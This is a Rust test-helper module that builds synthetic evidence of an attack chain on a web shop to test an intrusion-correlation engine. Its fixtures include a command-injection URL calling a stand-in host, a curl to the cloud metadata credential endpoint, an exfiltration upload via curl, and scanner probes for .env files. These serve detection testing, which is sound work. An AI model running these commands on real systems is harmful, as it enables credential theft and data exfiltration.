//! Evidence as tests write it: one web shop on one host, times in seconds after a fixed moment.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use crate::correlate::{Config, Correlator};
use crate::event::{FileId, MetadataPath, ProcessKey, Protocol};
use crate::evidence::{
    EdgeEvidence, EgressEvidence, ErrorSpike, Gap, HostEvidence, HostFinding, Novelty, Placement, ProcessNode,
    ProgramClass, RouteBasis, ServiceRoot,
};
use crate::incident::Incident;
use crate::request::{AccessRecord, AttackClass, Indicator, Target, Verdict};
use crate::timestamp::Timestamp;
use crate::workload::{Runtime, Workload, WorkloadKey};

/// The service's process.
pub(super) const SERVICE: u32 = 100;

pub(super) fn at(seconds: f64) -> Timestamp {
    let start: Timestamp = "2026-03-02T10:20:00Z".parse().expect("a time");
    #[expect(clippy::cast_possible_truncation, reason = "tests stay within days")]
    let millis = (seconds * 1000.0).round() as i64;
    Timestamp::from_unix_nanos(start.as_unix_nanos() + millis * 1_000_000)
}

pub(super) fn workload(name: &str) -> Arc<Workload> {
    Arc::new(Workload {
        key: WorkloadKey::new(&format!("unit:{name}.service")),
        runtime: Runtime::Systemd,
        cgroup: Arc::from(format!("/system.slice/{name}.service")),
        unit: Some(Arc::from(format!("{name}.service"))),
        container_id: None,
        container_name: None,
        image: None,
        pod_uid: None,
        pod: None,
    })
}

pub(super) fn process(pid: u32) -> ProcessKey {
    ProcessKey { pid, start_ticks: u64::from(pid) * 10 }
}

fn node(pid: u32, exe: &str, command_line: &str) -> ProcessNode {
    ProcessNode {
        process: process(pid),
        exe_path: Arc::from(exe),
        exe: FileId { device: 1, inode: exe.len() as u64 * 1000 + u64::from(exe.as_bytes()[exe.len() - 1]) },
        command_line: Arc::from(command_line),
        uid: 33,
        started: at(f64::from(pid) - 4000.0),
    }
}

/// A lineage from the process upward, below the shop's service.
pub(super) fn below(lineage: &[(u32, &str, &str)]) -> Placement {
    let mut nodes: Vec<ProcessNode> = lineage.iter().map(|(pid, exe, line)| node(*pid, exe, line)).collect();
    nodes.push(node(SERVICE, "/opt/shop/bin/shop", "/opt/shop/bin/shop --listen 0.0.0.0:8080"));
    nodes.push(node(1, "/usr/lib/systemd/systemd", "/sbin/init"));
    let listeners = vec!["0.0.0.0:8080".parse().expect("an address")];
    let service = Some(ServiceRoot { process: process(SERVICE), listeners });
    Placement { workload: workload("shop"), lineage: nodes, service }
}

pub(super) fn shell(seconds: f64, command: &str) -> HostEvidence {
    HostEvidence {
        at: at(seconds),
        place: below(&[(200, "/usr/bin/dash", &format!("sh -c {command}"))]),
        finding: HostFinding::Spawn { class: ProgramClass::Shell, socket_stdio: false, fileless: false },
        novelty: Novelty::New,
        reason: "shop started a shell, which it never did before".into(),
        own_accord: false,
        inbound: Vec::new(),
        status: None,
    }
}

pub(super) fn reverse_shell(seconds: f64, command: &str) -> HostEvidence {
    let finding = HostFinding::Spawn { class: ProgramClass::Shell, socket_stdio: true, fileless: false };
    HostEvidence { finding, reason: "a shell with a socket as its standard input".into(), ..shell(seconds, command) }
}

pub(super) fn metadata(seconds: f64, place: Placement, path: MetadataPath) -> HostEvidence {
    HostEvidence {
        at: at(seconds),
        place,
        finding: HostFinding::Metadata {
            endpoint: "169.254.169.254:80".parse().expect("an address"),
            service: Arc::from("instance_metadata"),
            path,
            role: (path == MetadataPath::Credential).then(|| Arc::from("shop-prod")),
            token: Some(true),
        },
        novelty: Novelty::New,
        reason: "credentials of the instance asked for by a program that never did".into(),
        own_accord: false,
        inbound: Vec::new(),
        status: None,
    }
}

/// By curl below the shell.
pub(super) fn credential(seconds: f64) -> HostEvidence {
    let url = "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-prod";
    metadata(seconds, curl(url), MetadataPath::Credential)
}

/// curl below the shell.
pub(super) fn curl(command_line: &str) -> Placement {
    below(&[(201, "/usr/bin/curl", command_line), (200, "/usr/bin/dash", "sh -c ./run")])
}

pub(super) fn contact(seconds: f64, place: Placement, peer: &str) -> EgressEvidence {
    EgressEvidence {
        at: at(seconds),
        place,
        peer: peer.parse().expect("an address"),
        protocol: Protocol::Tcp,
        name: None,
        server_name: None,
        novelty: Novelty::New,
        reason: "shop never needed this peer before".into(),
        prevalence: None,
        outcome: None,
    }
}

/// By curl below the shell.
pub(super) fn egress(seconds: f64, peer: &str) -> EgressEvidence {
    contact(seconds, curl(&format!("curl -s -T - http://{peer}/up")), peer)
}

/// A line of the load balancer, owned.
#[derive(Clone, Debug)]
pub(super) struct Line {
    pub(super) received: f64,
    pub(super) completed: f64,
    pub(super) client: String,
    pub(super) url: String,
    pub(super) status: u16,
    pub(super) verdict: Option<Verdict>,
    pub(super) workload: Arc<Workload>,
    pub(super) owner: Option<ProcessKey>,
    pub(super) basis: RouteBasis,
    pub(super) spike: Option<ErrorSpike>,
    /// The balancer's own socket towards the target.
    pub(super) upstream: Option<&'static str>,
}

/// An ordinary request of 200 ms.
pub(super) fn line(received: f64, url: &str) -> Line {
    Line {
        received,
        completed: received + 0.2,
        client: "198.51.100.9:4711".into(),
        url: url.into(),
        status: 200,
        verdict: None,
        workload: workload("shop"),
        owner: Some(process(SERVICE)),
        basis: RouteBasis::Listener,
        spike: None,
        upstream: None,
    }
}

pub(super) fn verdict(class: AttackClass, score: u8, indicators: Vec<Indicator>) -> Verdict {
    Verdict {
        class,
        score,
        matched: ";curl http://203.0.113.7/x".into(),
        reason: "shell metacharacters followed by a command".into(),
        reference: None,
        indicators,
    }
}

/// A command injection of half a second.
pub(super) fn injection(received: f64) -> Line {
    let command = Indicator::Command("curl http://203.0.113.7/x".into());
    Line {
        completed: received + 0.5,
        verdict: Some(verdict(AttackClass::Cmdi, 90, vec![command])),
        ..line(received, "/ping?host=127.0.0.1;curl%20http://203.0.113.7/x")
    }
}

/// A scanner's probe, refused.
pub(super) fn probe(received: f64, n: u32) -> Line {
    Line {
        status: 404,
        client: format!("192.0.2.{}:{}", n % 250 + 1, 1024 + n % 60_000),
        verdict: Some(verdict(AttackClass::Probe, 60, Vec::new())),
        ..line(received, &format!("/.env.{n}"))
    }
}

/// Any input.
#[derive(Clone, Debug)]
pub(super) enum Input {
    Edge(Line),
    Host(HostEvidence),
    Egress(EgressEvidence),
    Gap(Gap),
}

impl From<Line> for Input {
    fn from(line: Line) -> Self {
        Self::Edge(line)
    }
}

impl From<HostEvidence> for Input {
    fn from(evidence: HostEvidence) -> Self {
        Self::Host(evidence)
    }
}

impl From<EgressEvidence> for Input {
    fn from(evidence: EgressEvidence) -> Self {
        Self::Egress(evidence)
    }
}

impl Input {
    pub(super) fn event_time(&self) -> Timestamp {
        match self {
            Self::Edge(line) => at(line.received),
            Self::Host(evidence) => evidence.at,
            Self::Egress(evidence) => evidence.at,
            Self::Gap(gap) => gap.from,
        }
    }
}

pub(super) fn feed(engine: &mut Correlator, input: &Input) -> Vec<Incident> {
    match input {
        Input::Edge(line) => {
            let client = line.client.parse().ok();
            let record = AccessRecord {
                received: at(line.received),
                completed: at(line.completed),
                balancer: b"app/shop/50dc6c495c0c9188",
                client,
                target: Target::Socket("10.0.0.5:8080".parse().expect("an address")),
                upstream_local: line.upstream.map(|socket| socket.parse().expect("an address")),
                status: Some(line.status),
                target_status: Some(line.status),
                received_bytes: 100,
                sent_bytes: 1000,
                method: b"GET",
                authority: b"https://shop.example:443",
                path_and_query: line.url.as_bytes(),
                user_agent: b"test",
                referer: b"",
                trace_id: b"",
                anomaly: b"",
                ..AccessRecord::blank(at(line.received), at(line.completed))
            };
            engine.edge(EdgeEvidence {
                record,
                verdict: line.verdict.as_ref(),
                workload: Arc::clone(&line.workload),
                owner: line.owner,
                basis: line.basis,
                spike: line.spike,
            })
        }
        Input::Host(evidence) => engine.host(evidence.clone()),
        Input::Egress(evidence) => engine.egress(evidence.clone()),
        Input::Gap(gap) => {
            engine.gap(gap.clone());
            Vec::new()
        }
    }
}

/// The whole chain, in order: request, shell, credential, exfiltration.
pub(super) fn full_chain() -> Vec<Input> {
    vec![
        injection(0.0).into(),
        shell(0.1, "ping 127.0.0.1;curl http://203.0.113.7/x").into(),
        credential(0.2).into(),
        egress(0.3, "203.0.113.7:80").into(),
    ]
}

/// What became of a run.
pub(super) struct Run {
    pub(super) engine: Correlator,
    /// Every revision, in order.
    pub(super) revisions: Vec<Incident>,
}

impl Run {
    pub(super) fn new() -> Self {
        Self::with(Config::default())
    }

    pub(super) fn with(config: Config) -> Self {
        Self { engine: Correlator::new(config), revisions: Vec::new() }
    }

    /// Feeds `inputs` in this order, no time passing.
    pub(super) fn of<I: Into<Input>>(inputs: impl IntoIterator<Item = I>) -> Self {
        let mut run = Self::new();
        inputs.into_iter().for_each(|input| run.feed(input));
        run
    }

    pub(super) fn feed(&mut self, input: impl Into<Input>) {
        let input = input.into();
        let revisions = feed(&mut self.engine, &input);
        self.revisions.extend(revisions);
    }

    pub(super) fn advance(&mut self, seconds: f64) {
        let revisions = self.engine.advance(at(seconds));
        self.revisions.extend(revisions);
    }

    /// Feeds `inputs` as they happen, time moving with them.
    pub(super) fn through_time(inputs: impl IntoIterator<Item = Input>) -> Self {
        let mut run = Self::new();
        for input in inputs {
            run.revisions.extend(run.engine.advance(input.event_time()));
            run.feed(input);
        }
        run
    }

    /// Lets everything settle.
    pub(super) fn settle(&mut self) {
        // On from wherever time stands: a step back of hours would be a clock that is set.
        for hour in
            (1..72).map(|hour| f64::from(hour) * 3600.0).filter(|hour| at(*hour) > self.engine.now).collect::<Vec<_>>()
        {
            self.advance(hour);
        }
    }

    /// The last revision of every incident that was not found to be part of another, by id; what only tells how it came about
    /// (number of revisions, settled or not) is taken out.
    pub(super) fn finals(&self) -> BTreeMap<String, Incident> {
        let mut finals = BTreeMap::new();
        for incident in &self.revisions {
            let plain = Incident { revision: 0, settled: false, ..incident.clone() };
            finals.insert(incident.id.clone(), plain);
        }
        finals.retain(|_, incident| incident.superseded_by.is_none());
        finals
    }

    /// The last revision, of the one incident that there must be.
    pub(super) fn only(&self) -> &Incident {
        let finals = self.finals();
        assert_eq!(finals.len(), 1, "{:#?}", finals.values().map(|incident| &incident.title).collect::<Vec<_>>());
        self.revisions.last().expect("at least one revision")
    }
}

pub(super) const fn hours(hours: u64) -> Duration {
    Duration::from_secs(hours * 3600)
}
